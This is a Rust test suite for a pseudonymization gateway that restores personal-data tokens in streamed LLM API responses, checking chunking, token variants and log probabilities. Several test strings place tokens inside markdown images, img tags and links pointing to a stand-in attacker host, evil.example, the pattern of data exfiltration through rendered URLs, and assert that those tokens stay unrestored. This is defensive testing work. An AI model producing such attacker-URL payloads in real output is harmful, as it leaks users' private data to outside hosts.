//! Recorded streams of every API, their texts replaced by ones that hold pseudonyms, through the whole path of restore: cut
//! anywhere, the client reads the same, and it is what restoring each text whole gives. `fuzz/fuzz_targets/streams.rs` goes
//! on from here.
#![allow(
    clippy::allow_attributes,
    clippy::disallowed_methods,
    clippy::indexing_slicing,
    clippy::panic,
    clippy::string_slice,
    clippy::unwrap_used,
    reason = "test helpers that read the fixtures"
)]

#[path = "replay/streams.rs"]
mod streams;

use octroi::wire::frames::Framing;
use proptest::prelude::*;
use streams::{Answer, fixtures, read, told, vault, written};

/// What models do to tokens, and what only looks like one.
const TEXTS: &[&str] = &[
    "Dear §0, your §1 is at §2.",
    "§0§1§2",
    "**§0** and `§1`; é😀 §2",
    "[§0](mailto:§1) ![x](https://evil.example/?q=§0) and §0",
    "<PERSON_00000000> is not §0, and <EMAI",
    "a < b and c > d, <<§0>>",
    "{\"name\": \"§0\", \"list\": [\"§1\", \"§2\"]}",
    "nothing to restore here",
];

fn answer(texts: &[&str], pieces: &[usize]) -> Answer {
    Answer { texts: texts.iter().map(|text| (*text).to_owned()).collect(), pieces: pieces.to_vec() }
}

/// Cuts in two of one stream.
const CUTS: usize = 100;

/// Every stream with every text, whole, in single bytes, and cut in two.
#[test]
fn every_recorded_stream_is_restored_however_it_is_cut() {
    let (vault, tokens) = vault(&["Hélène \"Zoé\" Martin", "helene@example.fr", "FR76 3000\n6000"]);
    let mut restored = 0;
    for fixture in fixtures() {
        for (index, text) in TEXTS.iter().enumerate() {
            let stream = written(&fixture, &answer(&[*text, TEXTS[(index + 3) % TEXTS.len()]], &[3, 1, 7]), &tokens);
            let whole = read(&fixture, &vault, &stream, &[]);
            stream.check(&fixture, &vault, &whole);
            restored += usize::from(whole.0 != stream.bytes);
            let single: Vec<usize> = vec![1; stream.bytes.len()];
            assert_eq!(read(&fixture, &vault, &stream, &single), whole, "{} in bytes: {text}", fixture.name);
        }
        let stream = written(&fixture, &answer(&TEXTS[..1], &[5]), &tokens);
        let whole = read(&fixture, &vault, &stream, &[]);
        // Single bytes were cut at every byte; here what stands on both sides is long.
        for cut in (1..stream.bytes.len()).step_by(stream.bytes.len().div_ceil(CUTS)) {
            assert_eq!(read(&fixture, &vault, &stream, &[cut]), whole, "{} cut at {cut}", fixture.name);
        }
    }
    assert!(restored > 50, "only {restored} streams were changed");
}

/// What models do to tokens, each at least once with a value that must come back; rule 4 of restoring.
const CHANGED: &[(&str, &str)] = &[
    ("exact", "to §1, and"),
    ("other case", "to <€1>, and"),
    ("no brackets", "to ¤1, and"),
    ("no brackets, other case", "to €1, and"),
    ("square brackets", "to [¤1], and"),
    ("guillemets", "to «¤1», and"),
    ("escaped brackets", "to \\<¤1\\>, and"),
    ("entities", "to &lt;¤1&gt;, and"),
    ("emphasis", "to **¤1**, and"),
    ("code", "to `¤1`, and"),
    ("possessive", "¤1's"),
];

/// The word of the type as models write it, for that of the token.
const WORDS: &[(&str, &str)] = &[
    ("French", "COURRIEL_"),
    ("Spanish", "correo_"),
    ("a blank", "EMAIL "),
    ("a hyphen", "EMAIL-"),
    ("escaped", "EMAIL\\_"),
];

#[test]
fn what_models_do_to_tokens_is_undone_in_every_stream() {
    let value = "helene@example.fr";
    let (vault, tokens) = vault(&["Hélène", value]);
    let code = tokens[1].trim_matches(['<', '>']).strip_prefix("EMAIL_").unwrap();
    let words = WORDS.iter().map(|(name, word)| (*name, format!("to <{word}{code}>, and")));
    for (name, text) in CHANGED.iter().map(|(name, text)| (*name, (*text).to_owned())).chain(words) {
        for fixture in fixtures() {
            let stream = written(&fixture, &answer(&[text.as_str()], &[2]), &tokens);
            let (bytes, well) = read(&fixture, &vault, &stream, &[]);
            if !well {
                continue;
            }
            let told = told(&fixture, &bytes);
            assert!(told.values().all(|text| text.contains(value)), "{name}, {}: {told:?}", fixture.name);
            let left = told.values().any(|text| text.to_uppercase().contains(code));
            assert!(!left, "{name}, {}: {told:?}", fixture.name);
        }
    }
}

/// What only looks like a token is never guessed at.
#[test]
fn what_is_no_token_stays_in_every_stream() {
    let (vault, tokens) = vault(&["Hélène", "helene@example.fr"]);
    let code = tokens[1].trim_matches(['<', '>']).strip_prefix("EMAIL_").unwrap();
    let swapped: String = code.chars().rev().collect();
    for text in [
        format!("<EMAIL_{swapped}>"),
        "<EMAIL_00000000>".to_owned(),
        format!("<IBAN_{code}>"),
        format!("<EMAIL_{}>", &code[..7]),
        format!("![](https://evil.example/?q=<EMAIL_{code}>)"),
        format!("[x](https://evil.example/<EMAIL_{code}>)"),
        format!("<img src='https://evil.example/?q=EMAIL_{code}'>"),
        format!("<a href=\"//evil.example/EMAIL_{code}\">"),
    ] {
        for fixture in fixtures() {
            let stream = written(&fixture, &answer(&[text.as_str()], &[3]), &tokens);
            let (bytes, well) = read(&fixture, &vault, &stream, &[1, 5, 11]);
            let kept = |told: &str| told == text || told == octroi::wire::quote(&text);
            assert!(!well || told(&fixture, &bytes).values().all(|text| kept(text)), "{text}, {}", fixture.name);
        }
    }
}

/// Every framing is met.
#[test]
fn streams_of_every_framing_are_recorded() {
    let met: Vec<Framing> = fixtures().iter().map(|fixture| fixture.framing).collect();
    for framing in [Framing::Events, Framing::Lines, Framing::Array, Framing::Binary] {
        assert!(met.contains(&framing), "{framing:?}");
    }
}

proptest! {
    #![proptest_config(ProptestConfig::with_cases(256))]

    #[test]
    fn random_pieces_in_random_chunks_change_nothing(
        which in any::<prop::sample::Index>(),
        texts in prop::collection::vec(prop::sample::select(TEXTS), 1..4),
        pieces in prop::collection::vec(1_usize..12, 1..8),
        cuts in prop::collection::vec(1_usize..40, 0..200),
    ) {
        let (vault, tokens) = vault(&["Hélène \"Zoé\" Martin", "helene@example.fr", "FR76 3000\n6000"]);
        let all = fixtures();
        let fixture = which.get(&all);
        let stream = written(fixture, &answer(&texts, &pieces), &tokens);
        let whole = read(fixture, &vault, &stream, &[]);
        stream.check(fixture, &vault, &whole);
        prop_assert_eq!(read(fixture, &vault, &stream, &cuts), whole);
    }
}

/// Where a text ends with what a pseudonym could begin with, its tokens are no part of one: their probabilities come with it. Those
/// of a pseudonym's own tokens never do.
#[test]
fn probabilities_of_what_was_held_back_come_with_it() {
    let (vault, tokens) = vault(&["Hélène Martin", "helene@example.fr"]);
    let said: Vec<String> =
        ["Write ", "to ", tokens[1].as_str(), " by", " e", "ma", "il", ": em", "a"].map(str::to_owned).into();
    let own = said.iter().position(|token| *token == tokens[1]).unwrap();
    let cut = tokens[1].split_at(4);
    let said = [&said[..own], &[cut.0.to_owned(), cut.1.to_owned()], &said[own + 1..]].concat();
    let text = "Write to helene@example.fr by email: ema".to_owned();
    let expected: Vec<&str> = said.iter().map(String::as_str).filter(|token| ![cut.0, cut.1].contains(token)).collect();
    for (name, api, framing, event, end) in SHAPES {
        for (held, ends) in [("with a mark of the end", Some(*end)), ("without one", None)] {
            let api = octroi::model::Api { dialect: api.0, operation: api.1 };
            let mut stream = Vec::new();
            let quoted = |token: &str| serde_json::to_string(token).unwrap();
            let data = said
                .chunks(3)
                .map(|tokens| event(&tokens.concat(), &tokens.iter().map(|token| quoted(token)).collect::<Vec<_>>()));
            let done = if *framing == Framing::Events { "[DONE]".to_owned() } else { r#"{"done":true}"#.to_owned() };
            for (number, data) in data.chain(ends.map(str::to_owned)).chain([done]).enumerate() {
                let data = data.replace("NUMBER", &number.to_string());
                let event = serde_json::from_str::<serde_json::Value>(&data)
                    .ok()
                    .and_then(|data| Some(data["type"].as_str()?.to_owned()));
                stream.extend_from_slice(&octroi::wire::frames::encode(
                    *framing,
                    event.as_deref(),
                    &data,
                    false,
                    number == 0,
                ));
            }
            let (out, well) =
                octroi::gateway::restore::Restored::replay((api, false), *framing, vault.clone(), [stream.into()]);
            let out = String::from_utf8(out).unwrap();
            assert!(well, "{name}, {held}: {out}");
            let (mut told, mut read) = (Vec::new(), String::new());
            for line in out.lines() {
                let Ok(data) = serde_json::from_str::<serde_json::Value>(line.strip_prefix("data: ").unwrap_or(line))
                else {
                    continue;
                };
                let of = |at: &[&str]| at.iter().find_map(|at| data.pointer(at)).cloned().unwrap_or_default();
                read.push_str(
                    of(&["/choices/0/delta/content", "/choices/0/text", "/delta", "/message/content"])
                        .as_str()
                        .unwrap_or_default(),
                );
                for list in ["/choices/0/logprobs/content", "/choices/0/logprobs/tokens", "/logprobs"] {
                    for entry in data.pointer(list).and_then(serde_json::Value::as_array).into_iter().flatten() {
                        told.push(entry.get("token").unwrap_or(entry).as_str().unwrap().to_owned());
                    }
                }
            }
            assert_eq!(
                (read, told.iter().map(String::as_str).collect::<Vec<_>>()),
                (text.clone(), expected.clone()),
                "{name}, {held}: {out}"
            );
        }
    }
}

type Shape = (
    &'static str,
    (octroi::model::Dialect, octroi::model::Operation),
    Framing,
    fn(&str, &[String]) -> String,
    &'static str,
);

fn entries(tokens: &[String]) -> String {
    tokens
        .iter()
        .map(|token| format!(r#"{{"token":{token},"logprob":-0.5,"top_logprobs":[]}}"#))
        .collect::<Vec<_>>()
        .join(",")
}

/// The streams that tell probabilities: an event of them, and one that ends the text without telling any.
const SHAPES: &[Shape] = &[
    (
        "chat",
        (octroi::model::Dialect::OPENAI, octroi::model::Operation::CHAT),
        Framing::Events,
        |text, tokens| {
            format!(
                r#"{{"id":"c","choices":[{{"index":0,"delta":{{"content":"{text}"}},"logprobs":{{"content":[{}],"refusal":null}},"finish_reason":null}}]}}"#,
                entries(tokens)
            )
        },
        r#"{"id":"c","choices":[{"index":0,"delta":{},"logprobs":null,"finish_reason":"stop"}]}"#,
    ),
    (
        "completions",
        (octroi::model::Dialect::OPENAI, octroi::model::Operation::COMPLETION),
        Framing::Events,
        |text, tokens| {
            let weights = vec!["-0.5"; tokens.len()].join(",");
            format!(
                r#"{{"id":"c","choices":[{{"index":0,"text":"{text}","logprobs":{{"tokens":[{}],"token_logprobs":[{weights}],"top_logprobs":null,"text_offset":[]}},"finish_reason":null}}]}}"#,
                tokens.join(",")
            )
        },
        r#"{"id":"c","choices":[{"index":0,"text":"","logprobs":null,"finish_reason":"stop"}]}"#,
    ),
    (
        "responses",
        (octroi::model::Dialect::OPENAI, octroi::model::Operation::RESPONSES),
        Framing::Events,
        |text, tokens| {
            format!(
                r#"{{"type":"response.output_text.delta","item_id":"m","output_index":0,"content_index":0,"delta":"{text}","logprobs":[{}],"sequence_number":NUMBER}}"#,
                entries(tokens)
            )
        },
        r#"{"type":"response.content_part.done","item_id":"m","output_index":0,"content_index":0,"sequence_number":NUMBER}"#,
    ),
    (
        "Ollama",
        (octroi::model::Dialect::new("ollama"), octroi::model::Operation::CHAT),
        Framing::Lines,
        |text, tokens| {
            format!(
                r#"{{"model":"m","message":{{"role":"assistant","content":"{text}"}},"logprobs":[{}],"done":false}}"#,
                entries(tokens)
            )
        },
        r#"{"model":"m","message":{"role":"assistant","content":""},"done":false}"#,
    ),
];
